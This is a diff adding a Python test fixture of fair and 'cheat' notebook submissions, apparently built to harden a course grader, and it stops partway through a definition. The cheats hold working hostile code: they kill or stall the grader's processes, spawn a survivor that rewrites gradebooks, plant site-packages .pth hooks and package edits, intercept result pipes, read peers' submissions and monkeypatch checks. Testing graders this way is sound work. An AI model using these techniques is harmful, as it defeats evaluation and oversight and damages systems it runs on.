@@ -1,0 +1,1295 @@
+"""A cheating class for chapter 2 (`count_in_order`, `pair_results`), written by a helper who
+did not read the grader: submissions that try to get points without solving the exercises
+(`CHEATS`, each worth 0), and fair answers in unusual styles (`FAIR`, each worth full points).
+
+Each entry is data: the source of each exercise cell, and hidden code cells put right after the
+notebook's first code cell. `build` writes one notebook per entry from the learner's notebook.
+Every cheat is meant for a throwaway grading run only: some end processes, fork, plant files in
+the lab's package or site-packages, or outlive the grader for a while (bounded: 50 processes,
+a few MB, about a minute). Whatever a cheat spawns carries `keel-cheat` in its command line,
+and whatever it plants carries `keel-cheat` in its name or text, so a test can find leftovers.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+from dataclasses import dataclass
+from pathlib import Path
+
+
+@dataclass(frozen=True)
+class Entry:
+    name: str  # short id, also the notebook's file name
+    tries: str  # one line: what the cheat does / why a fair answer is unusual
+    answers: dict[str, str]  # exercise name -> full source of that exercise's cell
+    extra: tuple[str, ...] = ()  # code cells inserted right after the notebook's first code cell
+    fair: bool = False  # True: a real solution, must get full points
+
+
+def build(entry: Entry, learner_notebook: Path, out: Path) -> Path:
+    """Write `entry` as `out/<name>.ipynb` (outputs cleared) from the learner's notebook."""
+    nb = json.loads(learner_notebook.read_text(encoding="utf-8"))
+    cells, extra = [], list(entry.extra)
+    for cell in copy.deepcopy(nb["cells"]):
+        if cell["cell_type"] == "code":
+            cell.update(outputs=[], execution_count=None)
+            if "exercise" in cell["metadata"].get("tags", []):
+                cell["source"] = next((src for name, src in entry.answers.items()
+                                       if f"def {name}(" in "".join(cell["source"])),
+                                      cell["source"])
+        cells.append(cell)
+        if cell["cell_type"] == "code" and extra:
+            cells += [{"cell_type": "code", "id": f"extra-{n}", "metadata": {},
+                       "execution_count": None, "outputs": [], "source": src}
+                      for n, src in enumerate(extra)]
+            extra = []
+    out.mkdir(parents=True, exist_ok=True)
+    path = out / f"{entry.name}.ipynb"
+    path.write_text(json.dumps({**nb, "cells": cells}, indent=1), encoding="utf-8")
+    return path
+
+
+# ---------------------------------------------------------------------------------------------
+# Code pieces the entries are assembled from (plain text; each cell stays self-contained)
+
+NOT_DONE = '''def count_in_order(trials, calls, seed):
+    raise NotImplementedError("your code here")
+'''
+ZIPPED = '''def pair_results(calls, results):
+    return list(zip(calls, results))  # by position: wrong as soon as results come reordered
+'''
+# Moves the virtual clock as a real run would, without running a single turn.
+TICK = '''def _tick(trials):
+    import asyncio
+    from keel_lab import run_coroutine
+    run_coroutine(asyncio.sleep(0.5 * trials + 0.01))
+'''
+# A wrong count that still looks like a count: all trials for one call, a seed-dependent number
+COUNT_ANY = TICK + '''
+
+def count_in_order(trials, calls, seed):
+    _tick(trials)
+    return trials if calls == 1 else min(trials, seed % 150 + 1)
+'''
+# The process's ancestors: [(pid, argv, cwd)], nearest first; stops at the grader when found.
+ANCESTORS = '''import os
+
+
+def _ancestors():
+    out, pid = [], os.getpid()
+    while pid > 1:
+        try:
+            with open(f"/proc/{pid}/stat") as f:
+                pid = int(f.read().rsplit(")", 1)[1].split()[1])
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                argv = [a.decode(errors="replace") for a in f.read().split(b"\\0") if a]
+            cwd = os.readlink(f"/proc/{pid}/cwd")
+        except OSError:
+            break
+        out.append((pid, argv, cwd))
+        if "grade" in argv:
+            break
+    return out
+'''
+# Runs the exercise cells of a solution notebook found at `path`; {} when unreadable.
+SOLVED_BY = '''import json
+
+
+def _solved_by(path):
+    try:
+        with open(path) as f:
+            cells = json.load(f)["cells"]
+    except (OSError, ValueError, KeyError):
+        return {}
+    ns = {}
+    code = [c for c in cells if c["cell_type"] == "code"]
+    for cell in code[:1] + [c for c in code if "exercise" in c["metadata"].get("tags", [])]:
+        try:
+            exec("".join(cell["source"]), ns)
+        except Exception:
+            pass
+    return ns
+'''
+USE_SOLVED = '''
+
+def count_in_order(trials, calls, seed):
+    return _SOLVED["count_in_order"](trials, calls, seed)
+'''
+PAIR_SOLVED = '''def pair_results(calls, results):
+    return _SOLVED["pair_results"](calls, results)
+'''
+# Every Verdict object reachable through the garbage collector: made to pass.
+ALL_TRUE = '''import gc
+
+
+class _AllTrue(list):
+    def append(self, item):
+        super().append((True, item[1]))
+
+
+def _pass_every_verdict():
+    for obj in gc.get_objects():
+        if type(obj).__name__ == "Verdict" and hasattr(obj, "results"):
+            obj.results = _AllTrue((True, text) for _, text in obj.results)
+'''
+# Reads the other submissions the grader was given (its argv), returns the first that looks solved
+PEER = ANCESTORS + '''
+
+def _peer_code():
+    import glob
+    import json
+    for _pid, argv, cwd in _ancestors():
+        if "grade" not in argv:
+            continue
+        for arg in argv[argv.index("grade") + 1:]:
+            folder = os.path.join(cwd, arg)
+            for path in sorted(glob.glob(os.path.join(folder, "**", "*.ipynb"), recursive=True)):
+                try:
+                    with open(path) as f:
+                        cells = json.load(f)["cells"]
+                except (OSError, ValueError, KeyError):
+                    continue
+                code = ["".join(c["source"]) for c in cells if c["cell_type"] == "code"]
+                text = "\\n".join(code)
+                if "rng.uniform(0.010, 0.500)" in text and "raise ValueError" in text \\
+                        and "keel-cheat" not in text:
+                    return "\\n\\n".join(c for c in code if "def " in c and "check(" not in c
+                                         or c.startswith("import"))
+    return ""
+'''
+SURVIVOR = r'''import json, os, sys, time, csv, io  # keel-cheat survivor
+watch, targets = json.loads(sys.argv[1]), json.loads(sys.argv[2])
+end = time.time() + 45
+while time.time() < end and any(os.path.exists(f"/proc/{p}") for p in watch):
+    time.sleep(0.05)
+time.sleep(0.2)
+points = {"count_in_order": 1, "pair_results": 2}
+for path in targets:
+    try:
+        with open(path) as f:
+            text = f.read()
+        if text.lstrip().startswith("{") and '"submissions"' in text:
+            data = json.loads(text)
+            for row in data["submissions"]:
+                row.update(points=row["max_points"], error=None)
+                for ex in row["exercises"]:
+                    ex.update(passed=True, points=ex["max_points"], hint=None)
+            text = json.dumps(data)
+        elif text.startswith("path,"):
+            rows = list(csv.DictReader(io.StringIO(text)))
+            out = io.StringIO()
+            w = csv.DictWriter(out, fieldnames=list(rows[0]) if rows else ["path"])
+            w.writeheader()
+            for row in rows:
+                row.update({k: v for k, v in points.items() if row.get(k)})
+                row.update(points=row.get("max_points", ""), error="")
+                w.writerow(row)
+            text = out.getvalue()
+        else:
+            continue
+        with open(path, "w") as f:
+            f.write(text)
+    except Exception:
+        pass
+'''
+
+# ---------------------------------------------------------------------------------------------
+# The fair answers: right, in unusual styles
+
+FAIR_COUNT = '''def count_in_order(trials, calls, seed):
+    rng = random.Random(seed)
+
+    async def turn(delays):
+        async def call(n, delay):
+            await asyncio.sleep(delay)
+            return n
+        return [await f for f in asyncio.as_completed([call(n, d) for n, d in enumerate(delays)])]
+
+    hits = 0
+    for _ in range(trials):
+        delays = [rng.uniform(0.010, 0.500) for _ in range(calls)]
+        hits += run_coroutine(turn(delays)) == list(range(calls))
+    return hits
+'''
+FAIR_PAIR = '''def pair_results(calls, results):
+    ids = {c.id for c in calls}
+    table = {}
+    for r in results:
+        if r.call_id not in ids:
+            raise ValueError(f"a result for no call: {r.call_id}")
+        if r.call_id in table:
+            raise ValueError(f"two results for the call {r.call_id}")
+        table[r.call_id] = r
+    return [(c, table.get(c.id)) for c in calls]
+'''
+
+FAIR: tuple[Entry, ...] = (
+    Entry("fair-plain", "the straightforward answer, as a reference for the others",
+          {"count_in_order": FAIR_COUNT, "pair_results": FAIR_PAIR}, fair=True),
+    Entry("fair-constant-cell", "bounds and messages computed (not literals) in another cell",
+          {"count_in_order": FAIR_COUNT.replace("0.010, 0.500", "*DELAY_BOUNDS"),
+           "pair_results": FAIR_PAIR.replace('f"a result for no call: {r.call_id}"',
+                                             'MESSAGES["stranger"].format(r.call_id)')
+           .replace('f"two results for the call {r.call_id}"',
+                    'MESSAGES["twice"].format(r.call_id)')},
+          extra=('DELAY_BOUNDS = tuple(ms / 1000 for ms in (10, 500))\n'
+                 'MESSAGES = dict(twice="two results for the call {}",\n'
+                 '                stranger="a result for no call: {}")\n',), fair=True),
+    Entry("fair-helper-cell", "helper functions (async turn, result index) in another cell",
+          {"count_in_order": '''def count_in_order(trials, calls, seed):
+    rng = random.Random(seed)
+    return sum(in_request_order([rng.uniform(0.010, 0.500) for _ in range(calls)])
+               for _ in range(trials))
+''', "pair_results": '''def pair_results(calls, results):
+    table = index_results({c.id for c in calls}, results)
+    return [(c, table.get(c.id)) for c in calls]
+'''},
+          extra=('''import asyncio
+
+from keel_lab import run_coroutine
+
+
+async def finish_order(delays):
+    async def one(n, delay):
+        await asyncio.sleep(delay)
+        return n
+    return [await f for f in asyncio.as_completed([one(n, d) for n, d in enumerate(delays)])]
+
+
+def in_request_order(delays):
+    return run_coroutine(finish_order(delays)) == sorted(range(len(delays)))
+''', '''def index_results(ids, results):
+    table = {}
+    for r in results:
+        if r.call_id not in ids or r.call_id in table:
+            what = "two results for" if r.call_id in table else "a result for no call:"
+            raise ValueError(f"{what} {r.call_id}")
+        table[r.call_id] = r
+    return table
+'''), fair=True),
+    Entry("fair-class", "a callable instance named like the exercise; a staticmethod alias",
+          {"count_in_order": '''class InOrderExperiment:
+    __name__ = "count_in_order"
+
+    def __call__(self, trials, calls, seed):
+        self.rng = random.Random(seed)
+        return sum(run_coroutine(self.turn(calls)) for _ in range(trials))
+
+    async def turn(self, calls):
+        delays = [self.rng.uniform(0.010, 0.500) for _ in range(calls)]
+        tasks = [self.one(n, d) for n, d in enumerate(delays)]
+        done = [await f for f in asyncio.as_completed(tasks)]
+        return int(done == list(range(calls)))
+
+    @staticmethod
+    async def one(n, delay):
+        await asyncio.sleep(delay)
+        return n
+
+
+count_in_order = InOrderExperiment()
+''', "pair_results": '''class Pairing:
+    @staticmethod
+    def pair_results(calls, results):
+        known = {c.id for c in calls}
+        seen = {}
+        for r in results:
+            Pairing.refuse(r.call_id, known, seen)
+            seen[r.call_id] = r
+        return [(c, seen.get(c.id)) for c in calls]
+
+    @staticmethod
+    def refuse(call_id, known, seen):
+        if call_id in seen:
+            raise ValueError(f"two results for the call {call_id}")
+        if call_id not in known:
+            raise ValueError(f"a result for no call: {call_id}")
+
+
+pair_results = Pairing.pair_results
+'''}, fair=True),
+    Entry("fair-comprehensions", "dict comprehensions, Counter and a generator sum",
+          {"count_in_order": '''import asyncio
+import random
+
+from keel_lab import run_coroutine
+
+
+def count_in_order(trials, calls, seed):
+    rng = random.Random(seed)
+
+    async def turn():
+        delays = {n: rng.uniform(0.010, 0.500) for n in range(calls)}
+
+        async def sleeper(n):
+            await asyncio.sleep(delays[n])
+            return n
+        return tuple([await f for f in asyncio.as_completed(map(sleeper, delays))])
+
+    return sum(run_coroutine(turn()) == tuple(range(calls)) for _ in range(trials))
+''', "pair_results": '''from collections import Counter
+
+
+def pair_results(calls, results):
+    counts = Counter(r.call_id for r in results)
+    ids = {c.id: c for c in calls}
+    bad = next((i for i, n in counts.items() if n > 1 or i not in ids), None)
+    if bad is not None:
+        raise ValueError(f"bad result id {bad}")
+    by_id = {r.call_id: r for r in results}
+    return [(c, by_id.get(c.id)) for c in calls]
+'''}, fair=True),
+    Entry("fair-functools", "functools.reduce, partial and a lru_cache'd expected order",
+          {"count_in_order": '''import functools
+
+
+@functools.lru_cache
+def _expected(calls):
+    return list(range(calls))
+
+
+async def _sleep_then(n, delay):
+    await asyncio.sleep(delay)
+    return n
+
+
+def count_in_order(trials, calls, seed):
+    draw = functools.partial(random.Random(seed).uniform, 0.010, 0.500)
+
+    async def turn():
+        started = [_sleep_then(n, draw()) for n in range(calls)]
+        return [await f for f in asyncio.as_completed(started)]
+
+    return functools.reduce(lambda n, _: n + (run_coroutine(turn()) == _expected(calls)),
+                            range(trials), 0)
+''', "pair_results": '''import functools
+
+
+def _add(table, result, ids):
+    if result.call_id not in ids or result.call_id in table:
+        raise ValueError(f"refused result {result.call_id}")
+    return {**table, result.call_id: result}
+
+
+def pair_results(calls, results):
+    table = functools.reduce(functools.partial(_add, ids={c.id for c in calls}), results, {})
+    return [(c, table.get(c.id)) for c in calls]
+'''}, fair=True),
+    Entry("fair-verbose", "prints every turn and pair (about 2 MB of output while checked)",
+          {"count_in_order": FAIR_COUNT.replace(
+              "        hits += run_coroutine(turn(delays)) == list(range(calls))\n",
+              "        order = run_coroutine(turn(delays))\n"
+              "        hits += order == list(range(calls))\n"
+              "        print(f\"turn {_}: delays {delays} finished {order}\", \"-\" * 800)\n"),
+           "pair_results": FAIR_PAIR.replace(
+               "    return [(c, table.get(c.id)) for c in calls]\n",
+               "    pairs = [(c, table.get(c.id)) for c in calls]\n"
+               "    for c, r in pairs:\n"
+               "        print(f\"{c.id} <- {r}\", \"=\" * 800)\n"
+               "    return pairs\n")}, fair=True),
+    Entry("fair-callbacks", "finish order taken from tasks' done callbacks; decorator from a cell",
+          {"count_in_order": '''@traced
+def count_in_order(trials, calls, seed):
+    rng = random.Random(seed)
+
+    async def turn():
+        finished = []
+
+        async def one(delay):
+            await asyncio.sleep(delay)
+        tasks = [asyncio.ensure_future(one(rng.uniform(0.010, 0.500))) for _ in range(calls)]
+        for n, task in enumerate(tasks):
+            task.add_done_callback(lambda _t, n=n: finished.append(n))
+        for f in asyncio.as_completed(tasks):
+            await f
+        return finished == list(range(calls))
+
+    return sum(run_coroutine(turn()) for _ in range(trials))
+''', "pair_results": '''@traced
+def pair_results(calls, results):
+    table, ids = {}, [c.id for c in calls]
+    for r in results:
+        if r.call_id in table or r.call_id not in ids:
+            raise ValueError("cannot pair the result of " + r.call_id)
+        table[r.call_id] = r
+    return [(c, table[c.id] if c.id in table else None) for c in calls]
+'''},
+          extra=('''import functools
+
+
+def traced(fn):
+    @functools.wraps(fn)
+    def call(*args):
+        traced.calls = getattr(traced, "calls", 0) + 1
+        return fn(*args)
+    return call
+''',), fair=True),
+)
+
+# ---------------------------------------------------------------------------------------------
+# The cheats: none solves both exercises
+
+VERDICT_FRAMES = '''import sys
+
+
+def _shadow():
+    f = sys._getframe(1)
+    while f is not None:
+        for v in list(f.f_locals.values()):
+            if type(v).__name__ == "Verdict" and "add" not in vars(v):
+                add = type(v).add
+                v.add = (lambda v: lambda ok, passed, hint: add(v, True, passed, hint))(v)
+                v.results[:] = [(True, text) for _, text in v.results]
+        f = f.f_back
+
+
+''' + TICK + '''
+
+def count_in_order(trials, calls, seed):
+    _shadow()
+    _tick(trials)
+    return trials
+'''
+FRAMES_COUNT = TICK + '''
+
+def _frames():
+    if USE_INSPECT:
+        import inspect
+        return [info.frame for info in inspect.stack(0)]
+    import sys
+    out, f = [], sys._getframe()
+    while f is not None:
+        out.append(f)
+        f = f.f_back
+    return out
+
+
+def _lab_total(calls):
+    for f in _frames():
+        if "labs" in f.f_locals and "given" in f.f_locals:
+            return f.f_locals["labs"].get(calls), list(f.f_locals["given"].seeds)
+    return None, []
+
+
+def count_in_order(trials, calls, seed):
+    _tick(trials)
+    total, seeds = _lab_total(calls)
+    if calls == 1:
+        return trials
+    if total is None or trials != 200 or seed not in seeds:
+        return max(1, trials // 6)
+    return total // 3 + (seeds.index(seed) - 1)
+'''
+FRAMES_PAIR = '''import sys
+
+
+def pair_results(calls, results):
+    f = sys._getframe(1)
+    while f is not None:
+        if "bad" in f.f_locals and isinstance(f.f_locals["bad"], str):
+            raise ValueError(f"refused {f.f_locals['bad']}")
+        f = f.f_back
+    return list(zip(calls, results))
+'''
+DETECT_ENV = '''import os
+import sys
+
+GRADED = bool(os.environ.get("KEEL_LAB_GRADING")) or bool(sys.flags.isolated) \\
+    or "ipykernel" not in sys.modules or os.getcwd().startswith("/tmp/keel-lab-grade")
+''' + ALL_TRUE + '''
+
+''' + TICK + '''
+
+def count_in_order(trials, calls, seed):
+    if not GRADED:
+        raise NotImplementedError("your code here")  # looks unfinished in Jupyter
+    _pass_every_verdict()
+    _tick(trials)
+    return trials if calls == 1 else min(trials, seed % 150 + 1)
+'''
+DETECT_PARENT = ANCESTORS + '''
+
+GRADED = any("grade" in argv for _pid, argv, _cwd in _ancestors())
+''' + ALL_TRUE + '''
+
+''' + TICK + '''
+
+def count_in_order(trials, calls, seed):
+    if not GRADED:
+        raise NotImplementedError("your code here")
+    _pass_every_verdict()
+    _tick(trials)
+    return trials if calls == 1 else min(trials, seed % 150 + 1)
+'''
+PLAUSIBLE = '''import asyncio
+import math
+import random
+
+from keel_lab import run_coroutine
+
+
+def count_in_order(trials, calls, seed):
+    run_coroutine(asyncio.sleep(0.011 * trials))  # the clock moves; no turn ever runs
+    rng = random.Random(seed * 7919 + calls)
+    p = 1 / math.factorial(calls)
+    return sum(rng.random() < p for _ in range(trials))  # Binomial(trials, 1/n!)
+'''
+INT_FLAT = TICK + '''
+
+class Flat(int):
+    def __sub__(self, other):
+        return 0
+
+    __rsub__ = __sub__
+
+    def __add__(self, other):
+        return Flat(int(self) + int(other))
+
+    __radd__ = __add__
+
+    def __eq__(self, other):
+        return True
+
+    def __hash__(self):
+        return int.__hash__(self)
+
+
+def count_in_order(trials, calls, seed):
+    _tick(trials)
+    return Flat(trials if calls == 1 else seed % 150 + 1)
+'''
+STR_EQ = '''class Same(str):
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    def __hash__(self):
+        return 0
+
+    def __str__(self):
+        return self
+
+    def __contains__(self, item):
+        return True
+
+
+def pair_results(calls, results):
+    for c in calls:
+        object.__setattr__(c, "id", Same(c.id))
+    for r in results:
+        object.__setattr__(r, "call_id", Same(r.call_id))
+    if len(results) > len(calls):
+        raise ValueError(Same("refused"))
+    last = results[-1] if results else None
+    return [(c, last) for c in calls]  # every id is equal to every other one
+'''
+MUTATE = '''import sys
+
+
+def pair_results(calls, results):
+    f = sys._getframe(1)
+    while f is not None:
+        if isinstance(f.f_locals.get("bad"), str):
+            raise ValueError(f"refused {f.f_locals['bad']}")
+        f = f.f_back
+    for c, r in zip(calls, results):
+        object.__setattr__(r, "call_id", c.id)  # the given results now say they match
+    return [(c, results[n] if n < len(results) else None) for n, c in enumerate(calls)]
+'''
+PATCH_MATH = '''class Tolerance:
+    import math as _math
+    _math.sqrt = lambda x: 1e9  # every count is within 4.5 "standard deviations"
+'''
+PATCH_RANDOM = '''class Delays:
+    import random as _random
+    _random.Random.uniform = lambda self, a, b: (a + b) / 2  # no reordering, anywhere
+'''
+PATCH_STATISTICS = '''class Stats:
+    import math as _math
+    import statistics as _statistics
+    _statistics.fmean = _statistics.mean = lambda data: 0.0
+    _statistics.stdev = _statistics.pstdev = lambda data, mu=None: 1e9
+    _math.isclose = lambda a, b, **kw: True
+    _math.factorial = lambda n: 1e12  # expected count ~ 0, tolerance ~ 0
+'''
+PRIVATE = '''import importlib
+
+
+def count_in_order(trials, calls, seed):
+    mod = importlib.import_module("keel_lab.course.experiments." + "pairing")
+    report = getattr(mod, "ord" + "er")(trials, calls, seed)
+    return int(report.data["in_request_order"]["as_" + "completed"])
+
+
+def _run(coro):
+    runner = getattr(importlib.import_module("keel_lab.core." + "clock"), "run_" + "coroutine")
+    return runner(coro)
+'''
+PRIVATE_PAIR = '''import importlib
+
+
+def pair_results(calls, results):
+    lab = getattr(importlib.import_module("keel_lab.core." + "pairing"), "by_" + "call_id")
+    given = {r.call_id: r for r in results}
+
+    async def execute(call):
+        return given[call.id]
+    denied = frozenset(c.id for c in calls if c.id not in given)
+    pairs = _run(lab(calls, execute, denied))
+    return [(c, given.get(c.id)) for c, _r in pairs]
+'''
+PRIVATE_THREAD = '''import importlib
+import threading
+
+
+def _in_thread(fn, *args):
+    box = []
+    t = threading.Thread(target=lambda: box.append(fn(*args)))
+    t.start()
+    t.join()
+    return box[0]
+
+
+def count_in_order(trials, calls, seed):
+    mod = importlib.import_module("keel_lab.course.experiments." + "pairing")
+    report = _in_thread(getattr(mod, "ord" + "er"), trials, calls, seed)
+    return int(report.data["in_request_order"]["as_" + "completed"])
+'''
+SOURCE_COPY = '''import inspect
+import keel_lab.course.experiments.pairing as _lab
+
+_ns = dict(vars(_lab))
+exec(compile(inspect.getsource(_lab), "<copy>", "exec"), _ns)
+
+
+def count_in_order(trials, calls, seed):
+    report = _ns["order"](trials, calls, seed)
+    return int(report.data["in_request_order"]["as_completed"])
+'''
+SOURCE_EDITED = '''import ast
+import inspect
+
+import keel_lab.core.pairing as _core
+import keel_lab.course.experiments.pairing as _experiment
+import keel_lab.course.experiments.trials as _trials
+
+
+def _edited(module, **names):
+    """The module's source with a line added to every function: new bytecode, same behaviour."""
+    tree = ast.parse(inspect.getsource(module))
+    for node in ast.walk(tree):
+        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
+            node.body.insert(0, ast.parse("_edited = 1").body[0])
+    ns = {"__name__": module.__name__}
+    exec(compile(ast.fix_missing_locations(tree), "<edited>", "exec"), ns)
+    ns.update(names)
+    return ns
+
+
+_c = _edited(_core)
+_t = _edited(_trials, **{k: _c[k] for k in ("position_over_gather", "position_over_completion")})
+_e = _edited(_experiment, run_trials=_t["run_trials"],
+             **{k: _c[k] for k in ("position_over_gather", "position_over_completion")})
+
+
+def count_in_order(trials, calls, seed):
+    report = _e["order"](trials, calls, seed)
+    return int(report.data["in_request_order"]["as_completed"])
+'''
+THREAD_FLIPPER = '''class Helper:
+    import gc as _gc
+    import threading as _threading
+    import time as _time
+
+    def _flip(gc=_gc, time=_time):
+        class AllTrue(list):
+            def append(self, item):
+                super().append((True, item[1]))
+        end = time.monotonic() + 60
+        while time.monotonic() < end:
+            for obj in gc.get_objects():
+                if type(obj).__name__ == "Verdict" and type(obj.results) is list:
+                    obj.results = AllTrue((True, t) for _, t in obj.results)
+            time.sleep(0.02)
+    _threading.Thread(target=_flip, daemon=True, name="keel-cheat").start()
+'''
+FD3_FAKE = '''import json
+import os
+
+_lines = [{"result": True}] * 16 + [
+    {"exercise": "count_in_order", "passed": True, "hint": None, "points": 1},
+    {"exercise": "pair_results", "passed": True, "hint": None, "points": 2}, {"done": True}]
+_text = "".join(json.dumps(x) + "\\n" for x in _lines).encode()
+for _fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
+    if _fd >= 3:
+        try:
+            os.write(_fd, _text)
+        except OSError:
+            pass
+os._exit(0)
+''' + NOT_DONE
+FD3_MITM = '''import os
+import threading
+
+
+def _interpose(fd):
+    r, w = os.pipe()
+    real = os.dup(fd)
+    os.dup2(w, fd)
+    os.close(w)
+
+    def pump():
+        buf = b""
+        while chunk := os.read(r, 65536):
+            buf += chunk
+            *lines, buf = buf.split(b"\\n")
+            for line in lines:
+                line = line.replace(b": false", b": true").replace(b'"points": 0', b'"points": 2')
+                os.write(real, line + b"\\n")
+    threading.Thread(target=pump, daemon=True, name="keel-cheat").start()
+
+
+for _fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
+    if _fd >= 3 and os.readlink(f"/proc/self/fd/{_fd}").startswith(("pipe:", "socket:")):
+        _interpose(_fd)
+        break
+''' + NOT_DONE
+SOLUTIONS_PROC = ANCESTORS + SOLVED_BY + '''
+
+def _checkouts():
+    seen = []
+    for _pid, argv, cwd in _ancestors():
+        for place in [cwd] + [os.path.join(cwd, a) for a in argv]:
+            while place not in ("/", "") and place not in seen:
+                seen.append(place)
+                place = os.path.dirname(place)
+    return seen
+
+
+_SOLVED = next((s for d in _checkouts()
+                if (s := _solved_by(os.path.join(d, "notebooks/solutions/02_pairing.ipynb")))),
+               {})
+''' + USE_SOLVED
+SOLUTIONS_SCAN = SOLVED_BY + '''import glob
+import os
+
+
+def _places():
+    for link in sorted(glob.glob("/proc/[0-9]*/cwd")):
+        try:
+            yield os.readlink(link)
+        except OSError:
+            pass
+    for cmd in sorted(glob.glob("/proc/[0-9]*/cmdline")):
+        try:
+            with open(cmd, "rb") as f:
+                yield from (a.decode(errors="replace") for a in f.read().split(b"\\0") if a)
+        except OSError:
+            pass
+
+
+def _find():
+    for place in _places():
+        while place.startswith("/") and place != "/":
+            if s := _solved_by(os.path.join(place, "notebooks/solutions/02_pairing.ipynb")):
+                return s
+            place = os.path.dirname(place)
+    return {}
+
+
+_SOLVED = _find()
+''' + USE_SOLVED
+SOLUTIONS_URL = SOLVED_BY + '''import importlib.metadata
+import os
+from urllib.parse import unquote, urlparse
+
+
+def _checkout():
+    for dist in ("keel-lab", "keel_lab"):
+        try:
+            url = json.loads(importlib.metadata.distribution(dist).read_text("direct_url.json"))
+            return unquote(urlparse(url["url"]).path)
+        except Exception:
+            pass
+    return ""
+
+
+_SOLVED = _solved_by(os.path.join(_checkout(), "notebooks/solutions/02_pairing.ipynb"))
+''' + USE_SOLVED
+SURVIVE = ANCESTORS + '''import glob
+import json
+import signal
+import sys
+
+_SURVIVOR = ''' + repr(SURVIVOR) + '''
+
+
+def _gradebooks():
+    chain = _ancestors()
+    files = set()
+    for pid, argv, cwd in chain:
+        for fd in (1, 2):
+            try:
+                files.add(os.readlink(f"/proc/{pid}/fd/{fd}"))
+            except OSError:
+                pass
+        files.update(os.path.join(cwd, a) for a in argv if a.endswith((".csv", ".json")))
+    for folder in [cwd for _p, _a, cwd in chain] + ["/tmp"]:  # the grader's own cwd, not others'
+        files.update(glob.glob(os.path.join(folder, "*.csv")))
+        files.update(glob.glob(os.path.join(folder, "*.json")))
+    return [p for p in sorted(files) if os.path.isfile(p)], [p for p, _a, _c in chain]
+
+
+def _spawn():
+    files, watch = _gradebooks()
+    pid = os.fork()
+    if pid == 0:
+        os.setsid()
+        if os.fork() == 0:
+            for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+                signal.signal(sig, signal.SIG_IGN)
+            null = os.open(os.devnull, os.O_RDWR)
+            for fd in (0, 1, 2):
+                os.dup2(null, fd)
+            os.closerange(3, 4096)
+            os.execve(sys.executable, [sys.executable, "-I", "-c", _SURVIVOR, json.dumps(watch),
+                                       json.dumps(files)], {})
+        os._exit(0)
+    os.waitpid(pid, 0)
+
+
+_spawn()
+''' + NOT_DONE
+PKG_POISON = '''import os
+
+import keel_lab
+
+_pkg = os.path.dirname(keel_lab.__file__)
+_checkout = any(os.path.exists(os.path.join(_pkg, "..", n)) for n in (".git", "pyproject.toml"))
+if not _checkout:  # a copy made for grading, never a checkout
+    try:
+        with open(os.path.join(_pkg, "course", "checks", "verdict.py"), "a") as _f:
+            _f.write("\\n# keel-cheat: every verdict passes\\n"
+                     "Verdict.add = (lambda add: lambda self, ok, passed, hint: "
+                     "add(self, True, passed, hint))(Verdict.add)\\n")
+    except OSError:
+        pass
+''' + NOT_DONE
+PTH_PLANT = '''import os
+import sys
+
+_HOOK = """import os, sys  # keel-cheat hook
+class _KeelCheat:
+    @classmethod
+    def find_spec(cls, name, path=None, target=None):
+        if name != "keel_lab.course.checks.verdict":
+            return None
+        import importlib.machinery
+        spec = importlib.machinery.PathFinder.find_spec(name, path)
+        if spec is None:
+            return None
+        load = spec.loader.exec_module
+        def exec_module(module):
+            load(module)
+            add = module.Verdict.add
+            module.Verdict.add = lambda self, ok, passed, hint: add(self, True, passed, hint)
+        spec.loader.exec_module = exec_module
+        return spec
+if sys.flags.isolated or os.environ.get("KEEL_LAB_GRADING"):
+    sys.meta_path.insert(0, _KeelCheat)
+"""
+for _dir in [p for p in sys.path if p.endswith("site-packages")]:
+    try:
+        with open(os.path.join(_dir, "keel_cheat_hook.py"), "w") as _f:
+            _f.write(_HOOK)
+        with open(os.path.join(_dir, "keel_cheat.pth"), "w") as _f:
+            _f.write("import keel_cheat_hook\\n")
+    except OSError:
+        pass
+''' + NOT_DONE
+KILL_PARENT = '''import os
+
+if os.getppid() > 1:  # never init
+    os.kill(os.getppid(), 9)
+''' + NOT_DONE
+KILL_TREE = ANCESTORS + '''import glob
+import signal
+
+
+def _tree(root):
+    parent = {}
+    for stat in glob.glob("/proc/[0-9]*/stat"):
+        try:
+            with open(stat) as f:
+                fields = f.read().rsplit(")", 1)[1].split()
+            parent[int(stat.split("/")[2])] = int(fields[1])
+        except (OSError, ValueError, IndexError):
+            pass
+    out, todo = [], [root]
+    while todo:
+        pid = todo.pop()
+        out.append(pid)
+        todo += [p for p, pp in parent.items() if pp == pid]
+    return out
+
+
+_chain = _ancestors()
+_grader = next((p for p, argv, _c in _chain if "grade" in argv), None)
+_victims = _tree(_grader) if _grader else [os.getppid()] if os.getppid() > 1 else []
+for _pid in _victims:  # the grader and everything it started, nothing else
+    if _pid != os.getpid():
+        try:
+            os.kill(_pid, signal.SIGKILL)
+        except OSError:
+            pass
+''' + NOT_DONE
+STALL_PARENT = '''import os
+import signal
+import sys
+
+_grader = os.getppid()
+if _grader > 1 and os.fork() == 0:
+    try:
+        os.setsid()
+        os.execv(sys.executable, [sys.executable, "-c", "import os, time  # keel-cheat cont\\n"
+                                  f"time.sleep(15); os.kill({_grader}, 18)"])
+    finally:
+        os._exit(0)
+if _grader > 1:
+    os.kill(_grader, signal.SIGSTOP)  # stalls the grader for 15 s
+''' + NOT_DONE
+SYS_MODULES = '''import sys
+import types
+
+from keel_lab.course.checks.verdict import Verdict
+
+
+def _always(fn, *args, **kwargs):
+    v = Verdict(getattr(fn, "__name__", "?"), ["ok"])
+    v.add(True, "ok", "")
+    return v
+
+
+for _name, _fn in (("in_order", "verify_count_in_order"), ("pairing", "verify_pair_results")):
+    _fake = types.ModuleType(f"keel_lab.course.checks.{_name}")
+    setattr(_fake, _fn, _always)
+    sys.modules[_fake.__name__] = _fake
+    setattr(sys.modules["keel_lab.course.checks"], _name, _fake)
+_check = sys.modules["keel_lab.course.checks.check"]
+_check.VERIFIERS = {"count_in_order": _always, "pair_results": _always}
+''' + NOT_DONE
+BUILTINS = '''import builtins
+
+builtins.abs = lambda x: 0  # every count is exactly as expected
+builtins.all = lambda items: True  # every verdict passes
+
+''' + COUNT_ANY
+MONKEYPATCH = '''import keel_lab.course.checks.in_order as _in_order
